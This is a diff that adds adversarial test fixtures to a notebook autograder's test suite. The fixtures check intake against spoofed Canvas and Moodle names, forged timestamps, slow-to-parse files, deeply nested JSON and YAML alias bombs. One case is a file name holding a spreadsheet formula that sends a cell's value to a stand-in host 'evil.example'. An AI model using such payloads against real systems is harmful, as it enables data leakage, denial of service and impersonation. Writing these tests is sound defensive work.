@@ -329,3 +329,156 @@ def write_class(folder: Path, course: Path, release_dir: Path) -> dict[str, Expe
         make(target)
         expected[student] = Expected(0, "not a regular file", f"the submission is a {student}")
     return expected
+
+
+# ---- the intake's adversaries: file names, LMS names and layouts a student (or a careless export)
+# controls. Each case is an input (member name -> bytes, zipped by the test), an optional roster and
+# what intake must make of it; checked by tests/test_adversarial.py without grading anything.
+
+INTAKE_ASSIGNMENT = "03_softmax"
+
+
+@dataclass
+class IntakeCase:
+    files: dict[str, bytes]          # zip member name -> content
+    what: str                        # the attack, and the wrong outcome it aimed for
+    roster: list[dict] | None = None    # autograder.roster.Student fields, one dict per student
+    graded: dict = None              # {file: the student it must be graded as, or None for any}
+    distinct: bool = False           # the files of `graded` belong to different students
+    never: tuple = ()                # (student, file): that file must never be graded as that student
+    fates: dict = None               # {file: its fate (intake.GRADED, …)}
+    late: dict = None                # {file graded: the LMS's late marker it must carry}
+    untimed: tuple = ()              # files graded that must carry no submission time
+    may_raise: tuple = ()            # intake errors that are also a right answer (failing closed)
+    report_safe: bool = False        # no cell of the intake report may start like a spreadsheet formula
+    seconds: float = 3.0             # intake must answer within this
+
+
+def _people(*rows: tuple) -> list[dict]:
+    keys = ("id", "first_name", "last_name", "email", "canvas_user_id")
+    return [dict(zip(keys, r)) for r in rows]
+
+
+def intake_cases(notebooks: dict[str, bytes]) -> dict[str, IntakeCase]:
+    """`notebooks`: {"solution": …, "blank": …} (intake never parses them: any bytes do). Every case
+    has an honest student (the solution) and a blank one beside the attacker."""
+    good, blank = notebooks["solution"], notebooks["blank"]
+    a = INTAKE_ASSIGNMENT
+    canvas_roster = _people(("kim01", "Minji", "Kim", "kim01@u.edu", "1001"),
+                            ("lee02", "Jun", "Lee", "lee02@u.edu", "1002"),
+                            ("park03", "Sora", "Park", "park03@u.edu", "1003"),
+                            ("mal04", "x_1002", "Smith", "mal04@u.edu", "1004"))
+    moodle = {"Kim Minji_501_assignsubmission_file": good, "Lee Jun_502_assignsubmission_file": blank}
+    cases = {}
+
+    # Canvas keeps a name's trailing `_<digits>` (it only joins `_<digits>_` runs inside it): first name
+    # "x_1002" makes `smithx_1002_1004_<att>_…`, read as user 1002, whose own (worse-named) file was
+    # then superseded by the attacker's.
+    cases["canvas-name-ends-in-an-id"] = IntakeCase(
+        {"kimminji_1001_70001_03_softmax.ipynb": good, "leejun_1002_70002_Untitled.ipynb": blank,
+         "smithx_1002_1004_70009_03_softmax.ipynb": blank},
+        "a display name ending in another student's Canvas id, to be graded as them",
+        roster=canvas_roster,
+        graded={"kimminji_1001_70001_03_softmax.ipynb": "kim01", "leejun_1002_70002_Untitled.ipynb": "lee02"},
+        never=(("lee02", "smithx_1002_1004_70009_03_softmax.ipynb"),),
+        may_raise=("Collision",))
+    # `[[:word:]]` keeps `_` in a Canvas name: `kim01_bob` did not read as Canvas at all, fell back to
+    # a flat file name whose first token is another student's login, and stopped the class.
+    cases["canvas-name-with-underscore"] = IntakeCase(
+        {"kimminji_1001_70001_03_softmax.ipynb": good, "parksora_1003_70003_03_softmax.ipynb": blank,
+         "kim01_bob_LATE_1004_70009_hw.ipynb": blank},
+        "an underscore in the display name: read as another student's login, the LATE mark lost",
+        roster=canvas_roster,
+        graded={"kimminji_1001_70001_03_softmax.ipynb": "kim01", "parksora_1003_70003_03_softmax.ipynb": "park03",
+                "kim01_bob_LATE_1004_70009_hw.ipynb": "mal04"},
+        never=(("kim01", "kim01_bob_LATE_1004_70009_hw.ipynb"),),
+        late={"kim01_bob_LATE_1004_70009_hw.ipynb": True, "kimminji_1001_70001_03_softmax.ipynb": False})
+    # An anonymous-grading download: `anon_<anonymous id>_<attachment id>_<file>`; read as a flat
+    # folder, the whole class merged into one student `anon` (and `LATE` became a student).
+    anon = {"anon_Xk3j9_70001_homework.ipynb": good, "anon_Pq77a_70002_homework.ipynb": blank,
+            "LATE_anon_Zz12b_70003_mywork.ipynb": blank}
+    cases["canvas-anonymous-download"] = IntakeCase(
+        anon, "Canvas anonymous grading: every student named `anon`",
+        graded={f: None for f in anon}, distinct=True,
+        late={"LATE_anon_Zz12b_70003_mywork.ipynb": True, "anon_Xk3j9_70001_homework.ipynb": False})
+    # A folder named after the assignment inside one's Moodle upload made the whole zip read as
+    # nbgrader's submitted/ (any one `<x>/<assignment>/<file>` did): every other student ignored, and
+    # the attacker's own timestamp.txt taken as their submission time.
+    mal = "Mal Ory_503_assignsubmission_file"
+    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()}
+    files |= {f"{mal}/{a}/{a}.ipynb": blank, f"{mal}/{a}/timestamp.txt": b"2000-01-01 00:00:00 UTC"}
+    cases["moodle-upload-with-an-assignment-folder"] = IntakeCase(
+        files, "a folder named after the assignment in a Moodle upload: the rest of the class ignored",
+        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": "Kim-Minji-501",
+                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": "Lee-Jun-502",
+                f"{mal}/{a}/{a}.ipynb": "Mal-Ory-503"},
+        untimed=(f"{mal}/{a}/{a}.ipynb",))
+    # A timestamp.txt among one's Moodle files is the student's file, not nbgrader's metadata.
+    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()}
+    files |= {f"{mal}/{a}.ipynb": blank, f"{mal}/timestamp.txt": b"2000-01-01 00:00:00 UTC"}
+    cases["moodle-upload-with-timestamp-txt"] = IntakeCase(
+        files, "a forged timestamp.txt uploaded to Moodle, read as the submission time",
+        graded={f"{mal}/{a}.ipynb": "Mal-Ory-503", "Kim Minji_501_assignsubmission_file/03_softmax.ipynb": None,
+                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": None},
+        untimed=(f"{mal}/{a}.ipynb",), fates={f"{mal}/timestamp.txt": "not a notebook"})
+    # A zip of late submitters with one student: their folder was taken for a folder wrapping the zip.
+    cases["moodle-zip-of-one-student"] = IntakeCase(
+        {"Kim Minji_501_assignsubmission_file/homework.ipynb": good},
+        "a Moodle download (folders) of a single late submitter: the student's folder stripped",
+        graded={"Kim Minji_501_assignsubmission_file/homework.ipynb": "Kim-Minji-501"})
+    cases["nbgrader-zip-of-one-student"] = IntakeCase(
+        {f"stu01/{a}/{a}.ipynb": good, f"stu01/{a}/timestamp.txt": b"2027-03-23 14:00:00 UTC"},
+        "nbgrader's submitted/ of a single student, zipped: graded as no one",
+        graded={f"stu01/{a}/{a}.ipynb": "stu01"})
+    # Moodle, roster from a participants export (no participant ids): matched by the name in the
+    # download, which the student sets; the victim had not submitted.
+    cases["moodle-display-name-of-another"] = IntakeCase(
+        {"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": good,
+         "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": blank,
+         "Ada Lovelace_503_assignsubmission_file/03_softmax.ipynb": blank},
+        "a Moodle display name changed to another student's, to be graded as them",
+        roster=_people(("kim01", "Minji", "Kim", "kim01@u.edu", ""), ("lee02", "Jun", "Lee", "lee02@u.edu", ""),
+                       ("ada03", "Ada", "Lovelace", "ada03@u.edu", ""), ("mal04", "Mal", "Ory", "mal04@u.edu", "")),
+        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": "kim01",
+                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": "lee02"},
+        never=(("ada03", "Ada Lovelace_503_assignsubmission_file/03_softmax.ipynb"),),
+        may_raise=("UnknownStudents",))
+    # jupytext's look: a regex that backtracks over every line after each `---` (quadratic).
+    slow = f"{mal}/notes.md"
+    files = {f"{k}/03_softmax.ipynb": v for k, v in moodle.items()} | {slow: b"---\n" * 25_000}
+    cases["moodle-upload-slow-to-sniff"] = IntakeCase(
+        files, "a text file that takes intake minutes to tell from a jupytext notebook",
+        graded={"Kim Minji_501_assignsubmission_file/03_softmax.ipynb": None,
+                "Lee Jun_502_assignsubmission_file/03_softmax.ipynb": None},
+        fates={slow: "not a notebook"}, seconds=2.0)
+    # Spreadsheet formulas in what the instructor opens: a Moodle name starts the flat file's name.
+    evil = '=HYPERLINK("evil.example?"&A1,"open")_503_assignsubmission_file_03_softmax.ipynb'
+    cases["moodle-name-is-a-formula"] = IntakeCase(
+        {"Kim Minji_501_assignsubmission_file_03_softmax.ipynb": good,
+         "Lee Jun_502_assignsubmission_file_03_softmax.ipynb": blank, evil: blank,
+         "@SUM(1+1)_504_assignsubmission_file_x.txt": b"hi", "+cmd_505_assignsubmission_file_x.txt": b"hi"},
+        "a display name that is a spreadsheet formula, in the intake report",
+        graded={"Kim Minji_501_assignsubmission_file_03_softmax.ipynb": None, evil: None}, report_safe=True)
+    return cases
+
+
+# ---- notebooks that the grader's own process parses (repair.read_submission): each must come back
+# as Unmatchable (that student graded 0 with the reason), quickly, within a small memory budget.
+
+def _yaml_bomb(prefix: str) -> str:
+    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
+    return "".join(f"{prefix}    {line}\n" for line in lines)
+
+
+def parse_cases() -> dict[str, tuple[str, bytes]]:
+    """{case: (file name, content)}: submissions whose parsing broke the whole class's run."""
+    return {
+        # json.loads raises RecursionError (not JSONDecodeError): it escaped read_submission
+        "deeply-nested-json": ("03_softmax.ipynb", b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
+        # YAML aliases in the jupytext header: 9^9 strings once jupytext writes the metadata (23 GB)
+        "yaml-bomb-md": ("03_softmax.md", ("---\njupyter:\n  x:\n" + _yaml_bomb("") + "---\n\n```python\nx = 1\n```\n").encode()),
+        "yaml-bomb-py": ("03_softmax.py", ("# ---\n# jupyter:\n#   x:\n" + _yaml_bomb("# ") + "# ---\n\n# %%\nx = 1\n").encode()),
+        # 180 KB of empty cells: jupytext takes 10 s (a 100 MB file, hours) in the grader's process
+        "many-cells-py": ("03_softmax.py", b"# %%\nx=1\n" * 20_000),
+    }
